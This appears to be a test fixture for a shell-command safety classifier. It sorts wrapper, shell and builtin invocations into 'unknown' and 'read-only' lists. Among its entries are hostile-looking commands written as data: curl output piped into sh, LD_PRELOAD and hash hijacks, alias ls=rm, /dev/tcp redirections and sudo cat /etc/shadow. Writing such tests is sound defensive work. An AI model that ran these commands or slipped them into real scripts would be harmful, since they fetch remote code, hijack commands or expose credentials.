"""Wrappers, shells and builtins around what reads, and around what nobody knows."""

from tests.engine.shell.tables.lines import split

UNKNOWN = split(r"""
sudo -e file
sudo -i
sudo -s
sudo -l
sudo --edit file
sudo $x ls
sudo PATH=. ls
sudo --chroot=/x ls
env PATH=. ls
env -u PATH ls
env FOO=bar ls
FOO=bar ls
env LD_PRELOAD=./evil.so ls
env -S 'ls -l'
env $x
env "$x" ls
env --unknown ls
nohup ls
timeout $t ls
timeout 5 $cmd
nice $x ls
time $x
xargs sort
xargs -I{} sh -c 'cat {}'
xargs -I% %
xargs sh -c
xargs uniq
xargs env
xargs find
xargs --process-slot-var=X cat
xargs $x cat
exec $cmd
eval "$cmd"
eval $cmd
eval "x=$y"
eval x=1
watch $x
watch ls '*'"$x"
watch 'make'
parallel cat ::: a b
sh script.sh
sh
bash
bash -s
bash -i -c ls
bash -ic ls
bash --rcfile x -c ls
bash -c "$cmd"
bash -c $cmd
bash $flags -c ls
bash -O extglob -c ls
bash -o posix -c ls
bash -c ./x
zsh -c 'ls *'
zsh -c 'echo =rm'
zsh -c 'ls ~'
zsh -c 'x=1'
fish -c 'ls (id)'
csh -c 'ls ~'
echo 'rm x' | sh
cat x | bash
curl -s https://example.org/x.sh | sh
bash <(curl -s https://example.org/x.sh)
source x
. ./x
. x
alias ls=rm
unalias ls
trap "$cmd" EXIT
shopt -s expand_aliases
shopt -s extglob
set -a
set -k
set -o posix
set -o allexport
enable -n echo
hash -p /tmp/evil ls
complete -F f x
compgen -C ./evil
history -w
fc -s
bind -x x
let x=1
busybox ls
poetry run ls
script log
strace ls
flock lock ls
unbuffer ls
su -c ls
coproc ls
ls > /dev/tcp/host/80
cat < /dev/tcp/host/80
""")

READ_ONLY = split(r"""
sudo ls
sudo -n cat /etc/shadow
doas ls
env foo=bar ls
env LANG=C ls
env -i ls
env -u FOO ls
nice ls
nice -n 19 grep -r x .
ionice -c3 du -sh .
timeout 5 ls
timeout 10s find . -name x
stdbuf -oL grep x file
setsid ls
chrt -i 0 ls
taskset 1 ls
time ls
time -p ls
time
command ls
command -v rm
command -V rm
builtin echo x
exec ls
exec 3>&1
exec 3<file
eval ls
eval 'ls -l'
eval "echo" "a"
xargs
xargs cat
xargs grep foo
xargs -0 wc -l
xargs -n1 basename
xargs -I{} cat {}
xargs -P4 -n1 md5sum
ls | xargs echo
git ls-files | xargs grep -n foo
find . -name '*.py' -print0 | xargs -0 wc -l
watch ls
watch -n 5 'df -h'
watch -d ls -l
sh -c 'ls'
sh -c 'ls; cat x'
bash -c 'ls -l | wc -l'
bash -lc 'git status'
bash -lc "cd sub && ls"
bash -euo pipefail -c 'ls'
dash -c 'echo x'
zsh -c 'ls -la'
zsh -lc "cat a.txt | wc -l"
fish -c 'ls'
sh -c 'echo $1' _ x
sh -c 'exit 1'
bash <<< 'ls'
trap - EXIT
trap '' INT
trap 'echo bye' EXIT
trap
set -e
set -euo pipefail
set -x
set +e
set -o pipefail
set -- a b
set
shopt -s nullglob globstar
shopt -u dotglob
hash -r
jobs
wait
wait $!
umask
ulimit -n
times
type -a ls
cd sub
cd sub && ls
cd /etc; ls
pushd sub
popd
export LANG=C
export LC_ALL=C.UTF-8
export foo=bar
declare -a list
local x=1
readonly x=1
unset x
x=1
x=1 y=2
x=$(pwd)
x=$(ls | wc -l); echo $x
FOO=1; echo $FOO
LANG=C ls
LC_ALL=C sort file
TZ=UTC date
IFS=, read -r a b
while IFS= read -r line; do echo "$line"; done < file
read -r x
read -p 'name: ' name
mapfile -t lines < file
tee
tee /dev/null
tee /dev/stderr
echo x | tee /dev/tty
echo x > /dev/null
echo x >/dev/null 2>&1
echo x &>/dev/null
echo x 2>/dev/null
echo x >&2
echo x 1>&2
echo x 2>&1
echo x > /dev/stderr
echo x > /dev/stdout
echo x >& /dev/null
ls 2>&-
ls >&-
ls < file
ls 0< file
cat <<< "text"
cat <<< "$x"
cat 3< file
""")
